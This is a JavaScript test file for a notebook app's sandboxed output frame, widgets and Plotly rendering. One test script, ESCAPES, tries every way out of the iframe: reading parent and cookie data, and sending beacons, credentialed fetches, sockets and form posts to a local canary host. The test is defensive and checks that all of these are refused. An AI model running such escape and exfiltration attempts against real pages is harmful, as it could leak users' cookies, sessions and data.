/** Outputs with scripts: they work, in a frame from which nothing leads out. */
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, describe, test } from "node:test";
import { NotebookOnPage, until, writeNotebook } from "./support/notebook.mjs";
import { makeWorld } from "./support/world.mjs";

const html = (text) => [{ output_type: "display_data", metadata: {}, data: { "text/html": text } }];
const DRAWS = "<b id=was>waiting</b><script>document.getElementById('was').textContent='drawn by a script'</script>";
const SHOWS = `from IPython.display import HTML, Javascript, display, update_display\n`;

/** Asks every way out and writes down what came of each. */
const ESCAPES = `<pre id=report></pre><script>
const say = (what, came) => { document.getElementById("report").textContent += what + ": " + came + "\\n"; };
const tries = (what, act) => { try { say(what, act()); } catch (error) { say(what, "refused"); } };
tries("parent's document", () => parent.document.title);
tries("parent's global", () => { parent.reached = 1; return "set"; });
tries("top's address", () => { top.location = "CANARY/top"; return "went"; });
tries("cookie", () => document.cookie || "none");
tries("storage", () => localStorage.length);
tries("origin", () => origin);
tries("window", () => window.open("CANARY/window") ? "opened" : "refused");
new Image().src = "CANARY/image";
navigator.sendBeacon("CANARY/beacon", "x");
for (const [what, to] of [["api", "/api/me"], ["outside", "CANARY/fetch"]]) {
  fetch(new URL(to, "BASE"), { credentials: "include" }).then((came) => say(what, came.status), () => say(what, "refused"));
}
try { new WebSocket("CANARY/socket".replace("http", "ws")); } catch {}
const link = document.createElement("link"); link.rel = "stylesheet"; link.href = "CANARY/style"; document.head.append(link);
const frame = document.createElement("iframe"); frame.src = "CANARY/frame"; document.body.append(frame);
const form = document.createElement("form"); form.action = "CANARY/form"; document.body.append(form); form.submit();
</script>`;

const COUNTER = `import anywidget, traitlets
class Counter(anywidget.AnyWidget):
    _esm = """
    function render({ model, el }) {
      const button = document.createElement("button");
      const say = () => { button.textContent = "count is " + model.get("count"); };
      button.addEventListener("click", () => { model.set("count", model.get("count") + 1); model.save_changes(); });
      model.on("change:count", say);
      model.on("msg:custom", (message) => { el.dataset.said = message.text; });
      say();
      el.append(button);
      return () => { el.dataset.gone = "yes"; };
    }
    export default { render };
    """
    _css = "button { color: rgb(1, 2, 3); }"
    count = traitlets.Int(4).tag(sync=True)
counter = Counter()
counter`;

const HELD = `import ipywidgets
from IPython.display import HTML, display
held = ipywidgets.Output()
display(held)
with held:
    print('within')
    display(HTML('<b>bold within</b>'))
    display(ipywidgets.Label('a label within'))`;

const world = makeWorld(async (project) => {
  writeNotebook(project, "foreign.ipynb", [
    ["one", "1", html(DRAWS)],
    ["two", "2", html(`${DRAWS.replaceAll("was", "other")}`)],
    ["three", `${SHOWS}HTML("""${DRAWS.replaceAll("was", "third")}""")`],
  ]);
  writeNotebook(project, "live.ipynb", [
    ["library", `${SHOWS}HTML("<script>globalThis.Charts = { draw: (box) => box.textContent = 'a chart' };</script>")`],
    ["chart", `${SHOWS}HTML("<p class=late></p><script>Charts.draw(document.querySelector('.late'))</script>")`],
    ["javascript", `${SHOWS}Javascript("element.append('from JavaScript')")`],
    ["grows", `${SHOWS}HTML("<div id=box style='height:40px'></div><button onclick='box.style.height=\\"300px\\"'>grow</button>")`],
    ["fails", `${SHOWS}HTML("<script>nobody.knows</script>")`],
    ["fetches", `${SHOWS}HTML("<p>x</p><script src='https://cdn.example.org/lib.js'></script>")`],
    ["updates", `${SHOWS}shown = display(HTML("<i>first</i><script>1</script>"), display_id="d")`],
    ["update", `update_display(HTML("<i>second</i><script>1</script>"), display_id="d")`],
  ]);
  writeNotebook(project, "escapes.ipynb", [["tries", ""]]);
  writeNotebook(project, "leaves.ipynb", [
    ["leaves", `${SHOWS}HTML("<p>x</p><script>location = '/api/me'</script>")`],
    ["after", "1 + 1"],
  ]);
  writeNotebook(project, "plotly.ipynb", [
    ["figure", "import plotly.graph_objects as go\nfigure = go.Figure(go.Bar(x=['a', 'b'], y=[3, 5]))\nfigure.show()"],
    ["whole", `${SHOWS}HTML(go.Figure(go.Scatter(y=[1, 4, 2])).to_html(full_html=False, include_plotlyjs=False))`],
  ]);
  writeNotebook(project, "lost.ipynb", [
    ["plot", "", [{ output_type: "display_data", metadata: {}, data: { "application/vnd.plotly.v1+json": { data: [{ y: [1] }], layout: {} } } }]],
  ]);
  writeNotebook(project, "back.ipynb", [
    ["counter", COUNTER],
    ["read", "print('the count', counter.count)\n# flownote: no-cache"],
  ]);
  writeNotebook(project, "widgets.ipynb", [
    ["counter", COUNTER],
    ["read", "print('the count', counter.count)\n# flownote: no-cache"],
    ["write", "counter.count = 40\n# flownote: no-cache"],
    ["say", "counter.send({'text': 'hello'})\n# flownote: no-cache"],
    ["slider", "import ipywidgets\nslider = ipywidgets.IntSlider(value=3, min=0, max=9, description='size')\nipywidgets.VBox([slider, ipywidgets.Label('a label')])"],
    ["sliding", "print('slid to', slider.value)\n# flownote: no-cache"],
    ["held", HELD],
    ["more", "with held:\n    print('later')\nprint('outside')"],
    ["clears", "held.clear_output()\nwith held:\n    print('anew')\n    1 / 0"],
  ]);
});
const book = new NotebookOnPage(world);
const inside = () => world.page.frameLocator("iframe.sandbox");
/**
 * Waits until it stands still. The frame is a process of its own: until the browser has painted
 * it where it was laid, a press there goes to the page, whose target is the frame itself.
 */
const rests = async (place) => {
  await place.waitFor();
  let before;
  await until(
    async () => {
      const now = JSON.stringify(await place.boundingBox());
      await world.page.waitForTimeout(100);
      const same = now === before;
      before = now;
      return same;
    },
    Boolean,
    "it stands still",
  );
};
const quiet = () => {
  // The policy and failing scripts are told in the console, too; Chromium tells the messages
  // of one sandboxed frame again when the next one comes.
  world.browser.complaints.length = 0;
};

describe("outputs with scripts", () => {
  test("that were made elsewhere are shown without them, until they are trusted", async () => {
    await book.open("foreign.ipynb");
    assert.match(await book.shows("one"), /Scripts of outputs that were made elsewhere do not run/);
    await (await book.cell("one")).getByText("waiting", { exact: true }).waitFor();
    assert.equal(await world.page.locator("iframe").count(), 0);
    // A cell that is run is one's own; the others stay what they are.
    await book.runs("three");
    await inside().getByText("drawn by a script").waitFor();
    assert.equal(await inside().locator(".item").count(), 1);
    await (await book.cell("one")).getByText("waiting", { exact: true }).waitFor();
    await (await book.cell("one")).getByRole("button", { name: "trust this notebook" }).click();
    await world.page.getByRole("button", { name: "Trust its outputs" }).click();
    await until(() => inside().getByText("drawn by a script").count(), (n) => n === 3, "all three run");
    assert.doesNotMatch(await book.shows("one"), /do not run/);
    // It is remembered, by what they are.
    await book.saved();
    await book.open("foreign.ipynb");
    await book.cell("one");
    await until(() => inside().getByText("drawn by a script").count(), (n) => n === 3, "all three run again");
  });

  test("share one frame, so that one draws with what another brought", async () => {
    await book.open("live.ipynb");
    await book.runs("library");
    await book.runs("chart");
    await inside().getByText("a chart").waitFor();
    await book.runs("javascript");
    await inside().getByText("from JavaScript").waitFor();
    assert.equal(await world.page.locator("iframe").count(), 1);
    assert.equal(await world.page.locator("iframe").getAttribute("sandbox"), "allow-scripts");
  });

  test("stand where their cell is, as high as they are", async () => {
    await book.runs("grows");
    const cell = await book.cell("grows");
    const place = cell.locator(".scripted");
    await until(async () => (await place.boundingBox())?.height ?? 0, (high) => high > 40 && high < 120, "its height");
    const button = inside().getByRole("button", { name: "grow" });
    await rests(button);
    const both = async () => [await place.boundingBox(), await button.boundingBox()];
    const isWithin = ([box, shown]) => shown.y >= box.y && shown.y < box.y + box.height;
    await until(both, isWithin, "the button is within the cell");
    await button.click();
    await until(async () => (await place.boundingBox())?.height ?? 0, (high) => high > 300 && high < 400, "it grows");
    // What lies beside the outputs takes its own clicks.
    await (await book.cell("library")).getByRole("button", { name: /^Run cell/ }).click({ trial: true });
  });

  test("are entered and left by key", async () => {
    const place = (await book.cell("grows")).locator(".scripted");
    await place.focus();
    await world.page.keyboard.press("Enter");
    const button = inside().getByRole("button", { name: "grow" });
    await until(() => button.evaluate((one) => one === document.activeElement), Boolean, "the button has the focus");
    await world.page.keyboard.press("Escape");
    await until(() => place.evaluate((one) => one === document.activeElement), Boolean, "the output has the focus");
    await world.browser.checkAccessibility("outputs with scripts");
  });

  test("say what failed and what was not fetched", async () => {
    await book.runs("fails");
    await (await book.cell("fails")).getByText("The output's script failed: ReferenceError").waitFor();
    await book.runs("fetches");
    await (await book.cell("fetches")).getByText("https://cdn.example.org/lib.js was not fetched").waitFor();
    quiet();
  });

  test("change with `update_display`, and go with their cell", async () => {
    await book.runs("updates");
    await inside().getByText("first").waitFor();
    await book.runs("update");
    await inside().getByText("second").waitFor();
    assert.equal(await inside().getByText("first").count(), 0);
    await book.focus("updates");
    await world.page.keyboard.press("d");
    await world.page.keyboard.press("d");
    await until(() => inside().getByText("second").count(), (n) => n === 0, "it is gone");
    quiet();
  });
});

describe("the sandbox", () => {
  let canary;
  const asked = [];
  before(async () => {
    canary = createServer((request, response) => {
      asked.push(request.url);
      response.setHeader("access-control-allow-origin", "*").end("x");
    });
    await new Promise((done) => canary.listen(0, "127.0.0.1", done));
  });
  after(() => canary.close());

  test("has no way out", async () => {
    const to = `http://127.0.0.1:${canary.address().port}`;
    // The canary hears what is asked.
    await fetch(`${to}/control`);
    assert.deepEqual(asked.splice(0), ["/control"]);
    await book.open("escapes.ipynb");
    const script = ESCAPES.replaceAll("CANARY", to).replaceAll("BASE", world.server.base);
    await book.rewrite("tries", `from IPython.display import HTML\nHTML(${JSON.stringify(script)})`);
    await book.runs("tries");
    const report = inside().locator("#report");
    const text = await until(() => report.innerText(), (said) => /outside:/.test(said) && /api:/.test(said), "the report");
    assert.deepEqual(Object.fromEntries(text.trim().split("\n").map((line) => line.split(": "))), {
      "parent's document": "refused",
      "parent's global": "refused",
      "top's address": "refused",
      cookie: "refused",
      storage: "refused",
      origin: "null",
      window: "refused",
      api: "refused",
      outside: "refused",
    });
    await world.page.waitForTimeout(500);
    assert.deepEqual(asked, []);
    assert.equal(await world.page.evaluate(() => globalThis.reached), undefined);
    assert.match(world.page.url(), /escapes\.ipynb$/);
    quiet();
  });

  test("begins anew when a script goes elsewhere, and the notebook goes on", async () => {
    await book.open("leaves.ipynb");
    await book.runs("leaves");
    await book.runs("after");
    assert.match(await book.shows("after"), /2/);
    assert.match(world.page.url(), /leaves\.ipynb$/);
    quiet();
  });
});

describe("Plotly", () => {
  test("draws, by the JavaScript that its first figure brings", async () => {
    await book.open("plotly.ipynb");
    await book.runs("figure");
    await inside().locator(".js-plotly-plot .bars path").first().waitFor();
    await book.runs("whole");
    await inside().locator(".js-plotly-plot .scatterlayer path.js-line").waitFor();
    await world.browser.shoot("notebook-plotly");
    quiet();
  });

  test("says so when its JavaScript is not there", async () => {
    await book.open("lost.ipynb");
    await (await book.cell("plot")).getByRole("button", { name: "trust this notebook" }).click();
    await world.page.getByRole("button", { name: "Trust its outputs" }).click();
    await inside().getByText("without Plotly's own JavaScript").waitFor();
    assert.equal(await inside().locator("#report").count(), 0, "nothing of another notebook is here");
    quiet();
  });
});

describe("widgets", () => {
  test("of anywidget: a click changes Python's value, and Python's change shows", async () => {
    await book.open("widgets.ipynb");
    await book.runs("counter");
    const button = inside().getByRole("button", { name: /count is/ });
    await inside().getByText("count is 4").waitFor();
    assert.equal(await button.evaluate((one) => getComputedStyle(one).color), "rgb(1, 2, 3)");
    await button.click();
    await button.click();
    await inside().getByText("count is 6").waitFor();
    await book.runs("read");
    assert.match(await book.shows("read"), /the count 6/);
    await book.runs("write");
    await inside().getByText("count is 40").waitFor();
    await book.runs("say");
    await inside().locator("[data-said=hello]").waitFor();
    quiet();
  });

  test("come back with the page, as they are now", async () => {
    await book.open("back.ipynb");
    await book.runs("counter");
    await rests(inside().getByText("count is 4"));
    await inside().getByText("count is 4").click();
    await inside().getByText("count is 5").waitFor();
    await book.saved();
    await book.open("back.ipynb");
    await book.cell("counter");
    await rests(inside().getByText("count is 5"));
    await inside().getByText("count is 5").click();
    await inside().getByText("count is 6").waitFor();
    await book.runs("read");
    assert.match(await book.shows("read"), /the count 6/);
    quiet();
  });

  test("of ipywidgets: a slider", async () => {
    await book.open("widgets.ipynb");
    await book.runs("slider");
    const slider = inside().getByRole("slider", { name: "size" });
    await slider.focus();
    await slider.press("ArrowRight");
    await inside().getByText("a label").waitFor();
    await book.runs("sliding");
    assert.match(await book.shows("sliding"), /slid to 4/);
    await world.browser.shoot("notebook-widgets");
    quiet();
  });

  test("of ipywidgets: an Output holds what is printed and shown within it", async () => {
    await book.runs("held");
    const held = inside().getByRole("group", { name: /Output of cell 7/ });
    await held.getByText("within", { exact: true }).waitFor();
    await held.locator("b", { hasText: "bold within" }).waitFor();
    await held.getByText("a label within").waitFor();
    assert.doesNotMatch(await book.shows("held"), /within/);
    await book.runs("more");
    await held.getByText("later").waitFor();
    assert.match(await book.shows("more"), /^outside$/m);
    assert.doesNotMatch(await book.shows("more"), /later/);
    // An error within it is shown there, as in Jupyter, and the cell has not failed.
    await book.runs("clears");
    await held.getByText("ZeroDivisionError").first().waitFor();
    await held.getByText("anew", { exact: true }).waitFor();
    assert.equal(await held.getByText("later").count(), 0);
    quiet();
  });

  test("say that their kernel is gone", async () => {
    await book.focus("slider");
    await world.page.keyboard.press("0");
    await world.page.keyboard.press("0");
    await world.page.getByRole("button", { name: "Restart", exact: true }).click();
    await inside().getByText("This widget's kernel is gone").first().waitFor();
    quiet();
  });
});
